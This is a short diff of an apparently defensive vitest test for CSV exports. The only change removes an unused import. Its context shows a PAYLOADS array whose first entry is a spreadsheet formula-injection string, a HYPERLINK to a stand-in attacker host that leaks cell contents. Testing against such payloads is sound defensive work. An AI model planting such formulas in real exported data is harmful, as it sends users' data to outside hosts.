@@ -10,7 +10,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { isValidEmail } from '../../src/lib/email.ts';
 import { csvStream } from '../../src/lib/server/exports.ts';
 import { get } from '../helpers/http.ts';
-import { afterPost, type App, post, startApp, submit } from './support.ts';
+import { afterPost, type App, startApp, submit } from './support.ts';
 
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
